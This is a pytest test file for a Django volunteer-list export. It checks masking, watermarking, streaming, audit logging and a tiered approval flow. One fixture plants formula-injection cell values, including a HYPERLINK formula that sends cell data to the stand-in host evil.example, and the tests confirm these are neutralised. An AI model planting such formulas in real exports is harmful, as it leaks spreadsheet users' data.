"""Exports of the volunteers' list: masked, watermarked, neutralised, streamed, audited — and above the
threshold approved one level up, by the registry's approval flow, which never lets an approval of one
list export the other."""

from __future__ import annotations

import csv
import datetime
import inspect
import io
import types
from decimal import Decimal
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from openpyxl import load_workbook

from guanai.accounts.selectors import actor_for_user
from guanai.audit.models import AuditEvent
from guanai.core.testing import Check, assert_authorization_matrix
from guanai.minors import exports as minors_exports
from guanai.minors.exports import ExportFile
from guanai.minors.models import ExportApproval
from guanai.minors.tests.factories import (
    COMMUNITY_A,
    COMMUNITY_B,
    COUNTY_A_PREFIX,
    VILLAGE_A,
    MinorFactory,
    make_id_number,
)
from guanai.volunteers.exports import volunteers_export
from guanai.volunteers.models import Volunteer
from guanai.volunteers.selectors import VolunteerFilters
from guanai.volunteers.tests.factories import VolunteerFactory
from guanai.volunteers.vocabulary import ElderCategory, Specialty, availability_bit

pytestmark = pytest.mark.django_db

NOW = datetime.datetime(2026, 11, 30, 10, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=8)))
WANG_ID = make_id_number(COUNTY_A_PREFIX, datetime.date(1948, 6, 15), 913)
WATERMARK_A = "导出人：p-county-a（county_a_admin）　导出时间：2026年11月30日 10:00　仅限工作使用，不得外传"
HEADER = [
    "姓名", "性别", "出生日期", "年龄", "公民身份号码", "联系电话", "居住村（社区）", "区划代码", "五老类别",
    "原工作单位", "原职务（职称）", "专长", "可服务时间", "最多结对人数", "在结对人数", "背景审查日期",
    "背景审查结果", "状态", "累计服务时长（小时）", "星级",
]  # fmt: skip
EXPORTS = "/api/v1/volunteers/export"


@pytest.fixture(autouse=True)
def today(time_machine: Any) -> None:
    time_machine.move_to(NOW, tick=False)


@pytest.fixture
def elders(personas: dict[str, Any]) -> dict[str, Volunteer]:
    return {
        "wang": VolunteerFactory.create(
            name="王建国",
            region_id=VILLAGE_A,
            id_number=WANG_ID,
            phone="13905710041",
            categories=ElderCategory.VETERAN | ElderCategory.TEACHER,
            specialties=Specialty.TEACHING,
            former_unit="淳安县第一中学",
            former_title="高级教师",
            availability=availability_bit(5, 0) | availability_bit(5, 1),
            paired_count=1,
            hours_total=Decimal("312.5"),
            check_date=datetime.date(2026, 3, 1),
        ),
        "formula": VolunteerFactory.create(
            name="李四",
            region_id=COMMUNITY_A,
            former_unit='=HYPERLINK("http://evil.example/?d="&A1,"点这里")',
            former_title="@SUM(A1:A9)",
            categories=ElderCategory.CADRE,
        ),
        "minus": VolunteerFactory.create(
            name="王小二", region_id=COMMUNITY_A, former_unit="-1+1", categories=ElderCategory.CADRE
        ),
        "other_county": VolunteerFactory.create(name="赵五", region_id=COMMUNITY_B),
    }


def body(response: Any) -> bytes:
    assert isinstance(response, StreamingHttpResponse), (response.status_code, response.content)
    return b"".join(response.streaming_content)  # type: ignore[arg-type]


def csv_rows(response: Any) -> list[list[str]]:
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def export(client: Client, filters: dict[str, Any] | None = None, **payload: Any) -> Any:
    return client.post(
        EXPORTS, {"format": "csv", "filters": filters or {}, **payload}, content_type="application/json"
    )


def test_the_csv_export_is_the_filtered_list_masked_and_watermarked(
    clients: dict[str, Client], elders: dict[str, Volunteer]
) -> None:
    response = export(clients["county_a_admin"], {"q": "wjg"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="volunteers-20261130-100000.csv"'
    assert response["Cache-Control"] == "no-store"
    rows = csv_rows(response)
    assert rows[0] == [WATERMARK_A]
    assert rows[1] == HEADER
    assert rows[2] == [
        "王建国", "男", "1948-06-15", "78", "330127********9134", "139****0041", "富城村村民委员会",
        VILLAGE_A, "老战士、老教师", "淳安县第一中学", "高级教师", "教学辅导", "周六上午、周六下午", "3", "1",
        "2026-03-01", "无不良记录", "在岗", "312.5", "二星",
    ]  # fmt: skip
    assert rows[3:] == [[WATERMARK_A]]
    raw = body(export(clients["county_a_admin"])).decode()
    assert WANG_ID not in raw
    assert "13905710041" not in raw
    assert "赵五" not in raw  # another county's volunteer
    assert raw.count("\n") == 2 + 3 + 1  # watermark, header, county A's three, watermark


def test_cells_that_a_spreadsheet_would_run_are_neutralised(
    clients: dict[str, Client], elders: dict[str, Volunteer]
) -> None:
    rows = csv_rows(export(clients["county_a_admin"], {"categories": 1}))
    by_name = {row[0]: row for row in rows[2:-1]}
    assert set(by_name) == {"李四", "王小二"}
    assert by_name["李四"][9] == '\'=HYPERLINK("http://evil.example/?d="&A1,"点这里")'
    assert by_name["李四"][10] == "'@SUM(A1:A9)"
    assert by_name["王小二"][9] == "'-1+1"


def test_the_workbook_is_neutralised_and_carries_the_watermark_in_rows_footer_and_properties(
    clients: dict[str, Client], elders: dict[str, Volunteer]
) -> None:
    response = export(clients["county_a_admin"], {"categories": 1}, format="xlsx")
    assert response["Content-Type"] == minors_exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="volunteers-20261130-100000.xlsx"'
    workbook = load_workbook(io.BytesIO(body(response)))
    assert workbook.sheetnames == ["五老志愿者名册"]
    assert (workbook.properties.title, workbook.properties.creator) == ("五老志愿者名册", "p-county-a")
    assert workbook.properties.description == WATERMARK_A
    sheet = workbook.active
    assert sheet is not None
    assert sheet.oddFooter.center.text == WATERMARK_A
    assert sheet.oddHeader.center.text == WATERMARK_A
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert (rows[0][0], rows[-1][0]) == (WATERMARK_A, WATERMARK_A)
    assert rows[1] == HEADER
    assert {row[0] for row in rows[2:-1]} == {"李四", "王小二"}
    li = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == "李四")
    assert (li[9].data_type, li[9].value) == ("s", '\'=HYPERLINK("http://evil.example/?d="&A1,"点这里")')
    assert (li[10].data_type, li[10].value) == ("s", "'@SUM(A1:A9)")
    assert (li[18].data_type, li[18].value) == ("n", 0)  # hours are a number


def test_every_export_is_an_audit_event_with_rows_and_format(
    clients: dict[str, Client], elders: dict[str, Volunteer]
) -> None:
    body(export(clients["county_a_admin"], {"categories": 1}))
    body(export(clients["province_admin"], format="xlsx"))
    assert export(clients["county_a_admin"], format="pdf").status_code == 422
    events = AuditEvent.objects.filter(action="volunteers.export").order_by("id")
    assert list(events.values_list("actor_username", "outcome", "detail", "region_code")) == [
        ("p-county-a", "success", {"rows": 2, "format": "csv"}, "330127000000"),
        ("p-province", "success", {"rows": 4, "format": "xlsx"}, "330000000000"),
    ]
    assert not AuditEvent.objects.filter(action="minors.export").exists()


def test_the_file_is_produced_while_it_is_sent(
    elders: dict[str, Volunteer], monkeypatch: Any, personas: dict[str, Any]
) -> None:
    """A generator: nothing is read before the first chunk is asked for, and CSV comes in pieces."""
    monkeypatch.setattr(minors_exports, "CSV_ROWS_PER_CHUNK", 1)
    actor = actor_for_user(personas["county_a_admin"])
    result = volunteers_export(actor=actor, filters=VolunteerFilters(), file_format="csv")
    assert isinstance(result, ExportFile)
    assert result.rows == 3
    assert isinstance(result.chunks, types.GeneratorType)
    assert inspect.getgeneratorstate(result.chunks) == inspect.GEN_CREATED
    assert len(list(result.chunks)) == 4  # one per row (three rows), then the closing watermark
    xlsx = volunteers_export(actor=actor, filters=VolunteerFilters(), file_format="xlsx")
    assert isinstance(xlsx, ExportFile)
    assert isinstance(xlsx.chunks, types.GeneratorType)
    assert b"".join(xlsx.chunks).startswith(b"PK")


@pytest.mark.parametrize(
    ("payload", "status", "fields"),
    [
        ({"format": "pdf"}, 422, ["format"]),
        ({"filters": {"star": 9}}, 422, ["filters.star"]),
        ({"filters": {"region": "33x"}}, 422, ["region"]),
        ({"filters": {"region": "330182"}}, 404, []),  # a region outside one's own is refused, not dropped
        ({"approval_id": 999999}, 404, []),
    ],
)
def test_a_bad_request_exports_nothing(
    clients: dict[str, Client],
    elders: dict[str, Volunteer],
    payload: dict[str, Any],
    status: int,
    fields: list[str],
) -> None:
    response = clients["county_a_admin"].post(EXPORTS, payload, content_type="application/json")
    assert response.status_code == status
    assert list(response.json()["fields"]) == fields


# --- More than the threshold: approved one level up -------------------------------------------------


@pytest.fixture
def threshold(monkeypatch: Any) -> int:
    """Two rows stand for 1,000 in these tests (the one threshold of every list, in guanai.minors.exports)."""
    monkeypatch.setattr(minors_exports, "EXPORT_APPROVAL_THRESHOLD", 2)
    return 2


def test_a_large_export_files_a_request_instead_and_records_the_refusal(
    clients: dict[str, Client], elders: dict[str, Volunteer], threshold: int
) -> None:
    client = clients["county_a_admin"]
    response = export(client)
    assert response.status_code == 202
    approval = ExportApproval.objects.get()
    assert response.json() == {
        "id": approval.pk,
        "state": "pending",
        "rows": 3,
        "format": "csv",
        "region_code": "330127000000",
    }
    assert approval.filters == {
        "dataset": "volunteers",
        "region": None,
        "categories": 0,
        "specialties": 0,
        "availability": 0,
        "has_capacity": False,
        "check_due": False,
        "star": None,
        "gender": None,
        "status": "active",
        "team": None,
        "q": None,
        "sort": "name",
    }
    assert export(client).json()["id"] == approval.pk  # asking again reuses the pending request
    assert ExportApproval.objects.count() == 1
    refusals = AuditEvent.objects.filter(action="volunteers.export", outcome="denied")
    assert [event.detail for event in refusals] == [
        {"rows": 3, "format": "csv", "approval_id": approval.pk}
    ] * 2


def test_only_an_admin_one_level_up_may_approve(
    clients: dict[str, Client], elders: dict[str, Volunteer], threshold: int
) -> None:
    export(clients["county_a_admin"])
    approval = ExportApproval.objects.get()
    approve = f"{EXPORTS}/{approval.pk}/approve"
    assert clients["county_a_admin"].post(approve).status_code == 404  # one's own level
    assert clients["county_b_admin"].post(approve).status_code == 404  # another branch
    assert clients["township_worker"].post(approve).status_code == 403  # no EXPORT_APPROVE
    assert clients["anonymous"].post(approve).status_code == 401
    response = clients["province_admin"].post(approve)
    assert response.status_code == 200
    assert response.json() == {
        "id": approval.pk,
        "state": "approved",
        "rows": 3,
        "format": "csv",
        "region_code": "330127000000",
    }
    again = clients["province_admin"].post(approve)
    assert again.json() == {"code": "conflict", "message": "该导出申请已批准，不能再审批", "fields": {}}
    event = AuditEvent.objects.get(action="export.approved")
    assert (event.actor_username, event.target_id, event.detail) == (
        "p-province",
        str(approval.pk),
        {"rows": 3, "format": "csv"},
    )


def test_an_approval_allows_one_export_by_its_requester(
    clients: dict[str, Client], elders: dict[str, Volunteer], threshold: int
) -> None:
    client = clients["county_a_admin"]
    pending = export(client, format="xlsx").json()
    not_yet = client.post(EXPORTS, {"approval_id": pending["id"]}, content_type="application/json")
    assert not_yet.json() == {"code": "conflict", "message": "该导出申请待审批，不能导出", "fields": {}}
    clients["province_admin"].post(f"{EXPORTS}/{pending['id']}/approve")
    someone_else = clients["township_worker"].post(
        EXPORTS, {"approval_id": pending["id"]}, content_type="application/json"
    )
    assert someone_else.status_code == 404
    # The approval's own filters and format are exported, whatever else the request says.
    response = client.post(
        EXPORTS,
        {"approval_id": pending["id"], "format": "csv", "filters": {"q": "wjg"}},
        content_type="application/json",
    )
    assert response.status_code == 200
    assert response["Content-Type"] == minors_exports.XLSX_CONTENT_TYPE
    sheet = load_workbook(io.BytesIO(body(response))).active
    assert sheet is not None
    assert sorted(row[0].value for row in sheet.iter_rows(min_row=3, max_row=5)) == [
        "李四",
        "王小二",
        "王建国",
    ]
    assert ExportApproval.objects.get().state == "used"
    used = client.post(EXPORTS, {"approval_id": pending["id"]}, content_type="application/json")
    assert used.json() == {"code": "conflict", "message": "该导出申请已导出，不能导出", "fields": {}}
    events = AuditEvent.objects.filter(action="volunteers.export", actor_username="p-county-a").order_by("id")
    assert [(event.outcome, event.detail) for event in events] == [
        ("denied", {"rows": 3, "format": "xlsx", "approval_id": pending["id"]}),
        ("denied", {"rows": 0, "format": "xlsx", "code": "conflict"}),  # not approved yet
        ("success", {"rows": 3, "format": "xlsx", "approval_id": pending["id"]}),
        ("denied", {"rows": 0, "format": "xlsx", "code": "conflict"}),  # used already
    ]


def test_declining_a_request(
    clients: dict[str, Client], elders: dict[str, Volunteer], threshold: int
) -> None:
    approval = export(clients["county_a_admin"]).json()
    response = clients["province_admin"].post(f"{EXPORTS}/{approval['id']}/decline")
    assert response.json()["state"] == "declined"
    refused = clients["county_a_admin"].post(
        EXPORTS, {"approval_id": approval["id"]}, content_type="application/json"
    )
    assert refused.json()["message"] == "该导出申请已拒绝，不能导出"
    assert AuditEvent.objects.filter(action="export.declined", actor_username="p-province").count() == 1


def test_an_approval_does_not_cover_a_list_that_has_grown_since(
    clients: dict[str, Client], elders: dict[str, Volunteer], threshold: int
) -> None:
    approval = export(clients["county_a_admin"]).json()
    clients["province_admin"].post(f"{EXPORTS}/{approval['id']}/approve")
    VolunteerFactory.create(name="新登记", region_id=COMMUNITY_A)  # three rows approved, four now
    response = clients["county_a_admin"].post(
        EXPORTS, {"approval_id": approval["id"]}, content_type="application/json"
    )
    assert response.status_code == 409
    assert response.json()["message"] == "批准时共 3 行，现在为 4 行，请重新申请导出"
    assert ExportApproval.objects.get().state == "approved"


# --- One list's approval is never another's -----------------------------------------------------------


@pytest.fixture
def children(personas: dict[str, Any]) -> None:
    """Three children in county A, so that the registry's export needs an approval too."""
    for name in ("张三明", "李小红", "王小明"):
        MinorFactory.create(name=name, region_id=VILLAGE_A)


def test_an_approval_of_volunteers_never_exports_the_registry_and_back(
    clients: dict[str, Client], elders: dict[str, Volunteer], children: None, threshold: int
) -> None:
    client = clients["county_a_admin"]
    volunteers = export(client).json()
    minors = client.post("/api/v1/minors/exports", {"format": "csv"}, content_type="application/json").json()
    # The same person, region and format, the "same" filters: still two requests, one per list.
    assert volunteers["id"] != minors["id"]
    assert sorted(approval.filters["dataset"] for approval in ExportApproval.objects.all()) == [
        "minors",
        "volunteers",
    ]
    # Each list's approval endpoint decides only its own list's requests.
    assert clients["province_admin"].post(f"{EXPORTS}/{minors['id']}/approve").status_code == 404
    assert clients["province_admin"].post(f"{EXPORTS}/{minors['id']}/decline").status_code == 404
    assert (
        clients["province_admin"].post(f"/api/v1/minors/exports/{volunteers['id']}/approve").status_code
        == 404
    )
    # Each list's requests page shows its own list's requests only, to the requester and to the approver.
    minors_page = clients["province_admin"].get("/minors/exports/").content.decode()
    volunteers_page = clients["province_admin"].get("/volunteers/exports/").content.decode()
    assert f"/minors/exports/{minors['id']}/approve/" in minors_page
    assert f"/minors/exports/{volunteers['id']}/approve/" not in minors_page
    assert f"/volunteers/exports/{volunteers['id']}/approve/" in volunteers_page
    assert f"/volunteers/exports/{minors['id']}/approve/" not in volunteers_page
    requester = actor_for_user(ExportApproval.objects.get(pk=minors["id"]).requested_by)
    mine = minors_exports.export_approvals_mine
    assert list(mine(actor=requester).values_list("id", flat=True)) == [minors["id"]]
    assert list(mine(actor=requester, dataset="volunteers").values_list("id", flat=True)) == [
        volunteers["id"]
    ]
    assert clients["province_admin"].post(f"{EXPORTS}/{volunteers['id']}/approve").status_code == 200
    assert clients["province_admin"].post(f"/api/v1/minors/exports/{minors['id']}/approve").status_code == 200
    # An approved request exports its own list only; used with the other list it does not exist.
    as_minors = client.post(
        "/api/v1/minors/exports", {"approval_id": volunteers["id"]}, content_type="application/json"
    )
    assert as_minors.status_code == 404
    as_volunteers = client.post(EXPORTS, {"approval_id": minors["id"]}, content_type="application/json")
    assert as_volunteers.status_code == 404
    assert list(ExportApproval.objects.order_by("id").values_list("state", flat=True)) == [
        "approved",
        "approved",
    ]
    rows = csv_rows(client.post(EXPORTS, {"approval_id": volunteers["id"]}, content_type="application/json"))
    assert sorted(row[0] for row in rows[2:-1]) == ["李四", "王小二", "王建国"]
    rows = csv_rows(
        client.post("/api/v1/minors/exports", {"approval_id": minors["id"]}, content_type="application/json")
    )
    assert sorted(row[0] for row in rows[2:-1]) == ["张三明", "李小红", "王小明"]
    assert list(ExportApproval.objects.order_by("id").values_list("state", flat=True)) == ["used", "used"]
    denied = AuditEvent.objects.filter(outcome="denied", detail__code="not_found").order_by("id")
    assert list(denied.values_list("action", flat=True)) == ["minors.export", "volunteers.export"]


def test_an_approval_filed_before_lists_were_named_is_the_registrys(
    clients: dict[str, Client], personas: dict[str, Any], elders: dict[str, Volunteer]
) -> None:
    legacy = ExportApproval.objects.create(
        requested_by=personas["county_a_admin"],
        region_id="330127000000",
        filters={"status": "active", "sort": "name"},
        file_format="csv",
        row_count=3,
        state=ExportApproval.State.APPROVED,
    )
    response = clients["county_a_admin"].post(
        EXPORTS, {"approval_id": legacy.pk}, content_type="application/json"
    )
    assert response.status_code == 404
    assert clients["province_admin"].post(f"{EXPORTS}/{legacy.pk}/decline").status_code == 404
    legacy.refresh_from_db()
    assert legacy.state == "approved"


def test_authorization_matrix_of_exports(
    clients: dict[str, Client], elders: dict[str, Volunteer], threshold: int
) -> None:
    approval = export(clients["county_a_admin"]).json()["id"]
    csv_request = {"format": "csv"}
    checks: list[Check] = []
    for persona in ("volunteer", "lawyer", "counsellor", "auditor", "system_admin"):
        checks += [
            Check(persona, "POST", EXPORTS, 403, data=csv_request, must_not_contain=("王建国",)),
            Check(persona, "POST", EXPORTS, 403, data={"approval_id": approval}),
            Check(persona, "POST", f"{EXPORTS}/{approval}/approve", 403),
            Check(persona, "POST", f"{EXPORTS}/{approval}/decline", 403),
        ]
    checks += [
        Check("anonymous", "POST", EXPORTS, 401, data=csv_request),
        Check("anonymous", "POST", f"{EXPORTS}/{approval}/approve", 401),
        Check("anonymous", "POST", f"{EXPORTS}/{approval}/decline", 401),
        Check("county_b_admin", "POST", EXPORTS, 404, data={"approval_id": approval}),
        Check("county_b_admin", "POST", f"{EXPORTS}/{approval}/approve", 404),
        Check("county_b_admin", "POST", f"{EXPORTS}/{approval}/decline", 404),
        Check("county_b_admin", "POST", EXPORTS, 404, data={"filters": {"region": "330127000000"}}),
        Check("county_a_admin", "POST", f"{EXPORTS}/{approval}/approve", 404),
        Check("township_worker", "POST", f"{EXPORTS}/{approval}/approve", 403),
        Check("township_worker", "POST", EXPORTS, 404, data={"approval_id": approval}),
        Check("county_a_admin", "POST", EXPORTS, 202, data=csv_request),
        Check("province_admin", "POST", f"{EXPORTS}/{approval}/approve", 200),
    ]
    assert assert_authorization_matrix(clients, checks) == len(checks)
    # A file is streamed (the matrix reads whole bodies): another county exports its own volunteers only.
    rows = csv_rows(export(clients["county_b_admin"]))
    assert [row[0] for row in rows[2:-1]] == ["赵五"]
